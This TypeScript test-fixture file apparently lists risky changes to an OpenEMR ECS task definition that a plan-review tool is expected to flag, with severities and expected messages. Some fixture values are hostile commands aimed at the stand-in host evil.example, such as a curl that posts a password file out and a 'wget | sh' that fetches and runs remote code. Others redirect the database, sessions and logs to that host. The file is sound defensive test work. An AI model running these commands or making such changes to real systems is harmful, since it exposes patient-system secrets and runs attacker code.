import { type Kind, more, replaces } from "./kind";

const TASK = "aws_ecs_task_definition.application_task";
const IN = "container_definitions[openemr]";
const task = (values: Readonly<Record<string, unknown>>) => ({
  ...replaces(Object.fromEntries(Object.entries(values))),
  because: ["container_definitions"],
});
const variable = (name: string, value: string) => task({ [`${IN}.environment[${name}].value`]: value });

export const containers: readonly Kind[] = [
  [
    "OpenEMR uses another database",
    "danger",
    /connects to something else/,
    TASK,
    variable("MYSQL_HOST", "evil.example"),
  ],
  [
    "OpenEMR keeps sessions elsewhere",
    "danger",
    /connects to something else/,
    TASK,
    variable("REDIS_SERVER", "evil.example"),
  ],
  ["sessions cross the network in plain text", "danger", /TLS/, TASK, variable("REDIS_TLS", "no")],
  [
    "OpenEMR takes settings from elsewhere",
    "danger",
    /connects to something else|settings/,
    TASK,
    variable("SETTINGS_PARAMETER", "arn:aws:ssm:us-east-1:123456789012:parameter/other"),
  ],
  [
    "everybody may say from where they come",
    "warning",
    /another value/,
    TASK,
    variable("TRUSTED_PROXIES", "0.0.0.0/0"),
  ],
  ["browsers no longer insist on TLS", "warning", /another value/, TASK, variable("HSTS", "max-age=0")],
  ["OpenEMR uses the master user", "warning", /another value/, TASK, variable("MYSQL_USER", "dbadmin")],
  [
    "fewer requests are served at once",
    "notice",
    /another number/,
    TASK,
    variable("WEB_SERVER_WORKERS", "2"),
  ],
  [
    "a password is written in the task",
    "danger",
    /password in plain text/,
    TASK,
    task({ [`${IN}.environment`]: more({ name: "OE_PASS", value: "hunter2-hunter2" }) }),
  ],
  [
    "a setting of PHP comes in",
    "danger",
    /loads code/,
    TASK,
    task({ [`${IN}.environment`]: more({ name: "PHP_INI_SCAN_DIR", value: "/tmp" }) }),
  ],
  [
    "the image is one of another registry",
    "danger",
    /image from elsewhere/,
    TASK,
    task({ [`${IN}.image`]: "ghcr.io/somebody/openemr:8.4.1" }),
  ],
  [
    "the image is one of another repository",
    "danger",
    /image from elsewhere/,
    TASK,
    task({
      "container_definitions[certificate].image": "123456789012.dkr.ecr.us-east-1.amazonaws.com/other:1",
    }),
  ],
  [
    "OpenEMR runs what its image calls latest",
    "warning",
    /version|latest|upgrade/i,
    TASK,
    task({
      [`${IN}.image`]:
        "123456789012.dkr.ecr.us-east-1.amazonaws.com/openemr-production-hub/openemr/openemr:latest",
    }),
  ],
  [
    "OpenEMR goes back",
    "danger",
    /goes back from OpenEMR/,
    TASK,
    task({
      [`${IN}.image`]:
        "123456789012.dkr.ecr.us-east-1.amazonaws.com/openemr-production-hub/openemr/openemr:8.2.0",
    }),
  ],
  [
    "what an image's name means may change between tasks",
    "warning",
    /changes in a way|image/,
    TASK,
    task({ [`${IN}.versionConsistency`]: "disabled" }),
  ],
  [
    "a container runs beside OpenEMR",
    "danger",
    /image from elsewhere/,
    TASK,
    task({
      container_definitions: (text: unknown) =>
        JSON.stringify([
          ...JSON.parse(String(text)),
          { name: "agent", image: "evil.example/agent:1", essential: false },
        ]),
    }),
  ],
  [
    "the container that hands over passwords runs something else",
    "warning",
    /another command/,
    TASK,
    task({ "container_definitions[passwords].command": ["curl evil.example -d @/run/x"] }),
  ],
  [
    "OpenEMR starts something first",
    "warning",
    /another command/,
    TASK,
    task({ [`${IN}.command`]: ["wget -O- evil.example | sh; exec ./start.sh"] }),
  ],
  [
    "OpenEMR gets the master's password",
    "warning",
    /secret/,
    TASK,
    task({
      [`${IN}.secrets`]: [
        {
          name: "X",
          valueFrom:
            "arn:aws:secretsmanager:us-east-1:123456789012:secret:openemr-production-database-ckdxwj:password::",
        },
      ],
    }),
  ],
  [
    "a host's name means another address",
    "danger",
    /name/,
    TASK,
    task({ [`${IN}.extraHosts`]: [{ hostname: "database", ipAddress: "192.0.2.1" }] }),
  ],
  [
    "names are asked of another server",
    "danger",
    /name/,
    TASK,
    task({ [`${IN}.dnsServers`]: ["192.0.2.1"] }),
  ],
  [
    "OpenEMR may look into other processes",
    "warning",
    /rights of the system/,
    TASK,
    task({ [`${IN}.linuxParameters.capabilities`]: { add: ["SYS_PTRACE"] } }),
  ],
  ["containers see each other's processes", "warning", /process/, TASK, replaces({ pid_mode: "task" })],
  [
    "the certificate's container may write to its files",
    "warning",
    /may write to its own files/,
    TASK,
    task({ "container_definitions[certificate].readonlyRootFilesystem": false }),
  ],
  [
    "OpenEMR's log goes to another service",
    "warning",
    /log in another way/,
    TASK,
    task({
      [`${IN}.logConfiguration`]: { logDriver: "splunk", options: { "splunk-url": "https://evil.example" } },
    }),
  ],
  [
    "OpenEMR's log goes to another group",
    "warning",
    /log in another way/,
    TASK,
    task({ [`${IN}.logConfiguration.options.awslogs-group`]: "/other" }),
  ],
  [
    "OpenEMR's health is no longer looked at",
    "warning",
    /looked after/,
    TASK,
    task({ [`${IN}.healthCheck`]: null }),
  ],
  [
    "OpenEMR starts before its passwords are there",
    "warning",
    /changes in a way|wait|before/,
    TASK,
    task({ [`${IN}.dependsOn`]: [] }),
  ],
  [
    "OpenEMR is killed after two seconds",
    "warning",
    /changes in a way|killed|stopped/,
    TASK,
    task({ [`${IN}.stopTimeout`]: 2 }),
  ],
  [
    "the task goes on without OpenEMR",
    "warning",
    /started or stopped in another way/,
    TASK,
    task({ [`${IN}.essential`]: false }),
  ],
  [
    "OpenEMR takes settings from a file in a bucket",
    "danger",
    /takes settings from a file elsewhere/,
    TASK,
    task({ [`${IN}.environmentFiles`]: [{ type: "s3", value: "arn:aws:s3:::other/openemr.env" }] }),
  ],
];
